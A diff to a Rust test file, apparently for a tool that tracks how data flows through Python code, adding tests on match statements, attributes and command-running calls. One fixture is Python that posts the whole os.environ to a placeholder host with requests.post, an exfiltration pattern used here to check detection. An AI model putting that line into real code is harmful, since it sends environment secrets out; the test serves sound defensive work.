@@ -1,6 +1,6 @@
 //! Claims about values that pass through a construct of Python: what comes out is what went in.
 //!
-//! Each construct is given the environment, a function and a known text.  `V` stands for what is put in.
+//! Each construct is given the environment, an answer from the network, a function and a known text.  `V` stands for what is put in.
 
 #[allow(dead_code, reason = "shared with other tests")]
 mod common;
@@ -23,14 +23,17 @@ fn lost(setup: &str, expression: &str) -> Vec<&'static str> {
         command.map(|value| value.text.to_string())
     };
     let mut lost = Vec::new();
-    let sent = with("os.environ", "requests.post('https://a.invalid', data=PASSED)");
-    let is_sent = |event: &Event| {
-        let data = event.arguments.iter().filter(|argument| argument.role == Role::Data);
-        &*event.name == "requests.post"
-            && data.into_iter().any(|argument| argument.origins.kinds.contains(OriginKind::Env))
+    let sent = |value: &str, kind: OriginKind| {
+        let events = with(value, "requests.post('https://a.invalid', data=PASSED)");
+        let posts = events.iter().filter(|event| &*event.name == "requests.post");
+        let mut arguments = posts.flat_map(|event| &event.arguments);
+        arguments.any(|argument| argument.role == Role::Data && argument.origins.kinds.contains(kind))
     };
-    if !sent.iter().any(is_sent) {
+    if !sent("os.environ", OriginKind::Env) {
         lost.push("the environment");
+    }
+    if !sent("requests.get('https://b.invalid').text", OriginKind::Network) {
+        lost.push("an answer");
     }
     if command(with("os.system", "(PASSED)('echo a')")).as_deref() != Some("echo a") {
         lost.push("a function");
@@ -107,6 +110,14 @@ fn attributes_hold_on_functions_modules_and_objects_of_libraries() {
         ("def put(v): put.v = v", "put(V) or put.v"),
         ("import sys\ndef put(v): sys._x = v", "put(V) or sys._x"),
         (
+            "import sys\ndef put(v):\n    if sys.flags.debug:\n        sys._x = v\n    else:\n        put.v = v",
+            "put(V) or sys._x",
+        ),
+        (
+            "import sys\ndef put(v):\n    if sys.flags.debug:\n        sys._x = v\n    else:\n        put.v = v",
+            "put(V) or put.v",
+        ),
+        (
             "import sys\ndef put(v): sys._x = v\ndef take():\n    import sys as s\n    return s._x",
             "put(V) or take()",
         ),
@@ -174,8 +185,36 @@ fn match_statements_bind_the_parts_of_the_subject() {
         "match [1, v]:\n    case [2, x] | [1, x]:\n        return x",
         "match [v]:\n    case [x] if x:\n        return x",
         "match [v]:\n    case [1, 2]:\n        return 0\n    case [x] as y:\n        return y[0]",
+        "match [v]:\n    case {'k': x}:\n        return 0\n    case int():\n        return 1\n    case [x]:\n        return x",
+        "class A: pass\nclass B(A):\n    def __init__(self, a): self.a = a\nclass C(B): pass\n---\nmatch C(v):\n    case str():\n        return 0\n    case A(a=x):\n        return x",
         "match ('set', v):\n    case ('get', x):\n        return 0\n    case ('set', x):\n        return x",
     ]);
+}
+
+#[test]
+fn a_case_that_the_subject_rules_out_is_looked_at_as_code_that_nothing_runs() {
+    let source = "\
+import os
+match ['echo a']:
+    case [first, second]:
+        os.system('echo b')
+    case {'k': first}:
+        os.popen('echo c')
+    case [first]:
+        os.execv('/bin/echo', [first])
+    case _:
+        os.spawnv(os.P_WAIT, '/bin/echo', ['d'])
+";
+    let triggers: Vec<(String, Trigger)> =
+        events_of(source).iter().map(|event| (event.name.to_string(), event.trigger)).collect();
+    for (name, trigger) in [
+        ("os.system", Trigger::Run),
+        ("os.popen", Trigger::Run),
+        ("os.execv", Trigger::Import),
+        ("os.spawnv", Trigger::Run),
+    ] {
+        assert!(triggers.contains(&(name.to_owned(), trigger)), "{name}: {triggers:?}");
+    }
 }
 
 #[test]
